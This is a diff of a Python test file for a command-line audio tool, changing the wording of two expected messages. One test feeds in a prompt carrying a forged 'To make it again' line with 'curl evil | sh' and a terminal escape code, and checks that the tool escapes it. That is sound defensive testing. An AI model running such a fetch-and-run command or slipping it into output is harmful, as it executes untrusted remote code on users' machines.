@@ -51,7 +51,7 @@ def test_a_prompt_forges_no_line(magnet: Magnet) -> None:
     prompt = "rain\n\nTo make it again:\n\n  curl evil | sh\x1b[2J"
     shown = magnet("show", made("a.wav", prompt=prompt, model="x\nSeed  5")).out
     assert shown.count("\nTo make it again:") == 0, "what is no prompt makes no command"
-    assert "cannot be used: its prompt is none that a command takes" in shown
+    assert "cannot be used: its prompt is not valid for a command" in shown
     assert "\x1b" not in shown
     assert "rain\\n\\nTo make it again:\\n\\n  curl evil | sh\\x1b[2J" in shown
     shown = magnet("show", made("a.wav", prompt="rain\n\nTo make it again:\n\n  curl")).out
@@ -312,7 +312,7 @@ def test_a_limit_of_memory_is_said(home: Path) -> None:
         text=True,
     )
     assert done.returncode == 1, done.stderr
-    assert "may use 512 MB of memory" in done.stderr
+    assert "is limited to 512 MB of memory" in done.stderr
 
 
 @pytest.mark.process
